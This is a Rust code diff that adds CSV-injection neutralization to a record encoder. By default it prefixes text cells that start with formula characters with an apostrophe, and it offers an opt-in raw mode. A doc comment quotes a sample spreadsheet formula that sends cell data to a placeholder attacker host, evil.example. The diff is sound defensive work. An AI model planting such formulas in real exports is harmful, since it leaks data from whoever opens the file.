@@ -98,10 +98,25 @@ pub enum EncodeError {
     Csv(#[from] csv::Error),
 }
 
+/// How CSV text cells are written.
+///
+/// Request URLs, user agents and referers are chosen by any visitor of a site, and a
+/// spreadsheet runs a cell such as `=HYPERLINK("https://evil.example/?x="&B2)` as a formula.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum CsvCells {
+    /// A text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading
+    /// `'` (OWASP's rule for CSV injection), so spreadsheets show it as text. Numbers are
+    /// written as they are.
+    #[default]
+    Neutralized,
+    /// Every value exactly as sent, for engines (DuckDB, Spark) that never evaluate cells.
+    Raw,
+}
+
 /// Writes records of type `T` in one [`Format`] into `W`.
 pub enum Encoder<T: Table, W: Write + Send> {
     Ndjson(BufWriter<W>),
-    Csv(Box<csv::Writer<W>>),
+    Csv(Box<csv::Writer<W>>, CsvCells),
     Parquet {
         writer: Box<ArrowWriter<W>>,
         batch: Batch<T>,
@@ -109,8 +124,14 @@ pub enum Encoder<T: Table, W: Write + Send> {
 }
 
 impl<T: Table, W: Write + Send> Encoder<T, W> {
-    /// An encoder writing to `out`; CSV writes its header at once.
+    /// An encoder writing to `out`; CSV writes its header at once, with formula-like cells
+    /// neutralized.
     pub fn new(format: Format, out: W) -> Result<Self, EncodeError> {
+        Self::with_csv_cells(format, out, CsvCells::Neutralized)
+    }
+
+    /// As [`Encoder::new`], with CSV cells written as `cells` says.
+    pub fn with_csv_cells(format: Format, out: W, cells: CsvCells) -> Result<Self, EncodeError> {
         Ok(match format {
             Format::Ndjson => Encoder::Ndjson(BufWriter::with_capacity(256 << 10, out)),
             Format::Csv => {
@@ -119,7 +140,7 @@ impl<T: Table, W: Write + Send> Encoder<T, W> {
                     .from_writer(out);
                 let header = T::columns().iter().map(|c| c.name).chain([EXTRA]);
                 writer.write_record(header)?;
-                Encoder::Csv(Box::new(writer))
+                Encoder::Csv(Box::new(writer), cells)
             }
             Format::Parquet => Encoder::Parquet {
                 writer: Box::new(ArrowWriter::try_new(
@@ -138,7 +159,7 @@ impl<T: Table, W: Write + Send> Encoder<T, W> {
                 write_json(record, out)?;
                 out.write_all(b"\n")?;
             }
-            Encoder::Csv(out) => write_csv(record, out)?,
+            Encoder::Csv(out, cells) => write_csv(record, out, *cells)?,
             Encoder::Parquet { writer, batch } => {
                 batch.push(record);
                 if batch.rows >= BATCH_ROWS {
@@ -153,7 +174,7 @@ impl<T: Table, W: Write + Send> Encoder<T, W> {
     pub fn finish(self) -> Result<W, EncodeError> {
         Ok(match self {
             Encoder::Ndjson(out) => out.into_inner().map_err(|e| e.into_error())?,
-            Encoder::Csv(out) => out.into_inner().map_err(|e| e.into_error())?,
+            Encoder::Csv(out, _) => out.into_inner().map_err(|e| e.into_error())?,
             Encoder::Parquet {
                 mut writer,
                 mut batch,
@@ -305,11 +326,26 @@ pub fn write_json<T: Table>(record: &T, out: &mut impl Write) -> io::Result<()> 
 }
 
 /// One CSV row: every column (empty when absent), date-times as sent, then `extra` as JSON.
-fn write_csv<T: Table, W: Write>(record: &T, out: &mut csv::Writer<W>) -> csv::Result<()> {
+fn write_csv<T: Table, W: Write>(
+    record: &T,
+    out: &mut csv::Writer<W>,
+    cells: CsvCells,
+) -> csv::Result<()> {
     let mut number = String::with_capacity(20);
+    let mut quoted = String::new();
+    let mut text = |value: &str, out: &mut csv::Writer<W>| {
+        if cells == CsvCells::Neutralized && runs_as_formula(value) {
+            quoted.clear();
+            quoted.push('\'');
+            quoted.push_str(value);
+            out.write_field(&quoted)
+        } else {
+            out.write_field(value)
+        }
+    };
     for column in T::columns() {
         match (column.get)(record) {
-            Cell::Text(v) => out.write_field(v.unwrap_or(""))?,
+            Cell::Text(v) => text(v.unwrap_or(""), out)?,
             Cell::Int(Some(n)) => {
                 number.clear();
                 use std::fmt::Write as _;
@@ -317,7 +353,7 @@ fn write_csv<T: Table, W: Write>(record: &T, out: &mut csv::Writer<W>) -> csv::R
                 out.write_field(&number)?;
             }
             Cell::Int(None) | Cell::Time(None) => out.write_field("")?,
-            Cell::Time(Some(t)) => out.write_field(t.as_str())?,
+            Cell::Time(Some(t)) => text(t.as_str(), out)?,
         }
     }
     let extra = record.extra();
@@ -327,4 +363,12 @@ fn write_csv<T: Table, W: Write>(record: &T, out: &mut csv::Writer<W>) -> csv::R
         out.write_field(serde_json::to_string(extra).map_err(io::Error::other)?)?;
     }
     out.write_record(None::<&[u8]>)
+}
+
+/// Whether a spreadsheet would take a cell starting so as a formula (OWASP's list).
+fn runs_as_formula(value: &str) -> bool {
+    matches!(
+        value.as_bytes().first(),
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
+    )
 }
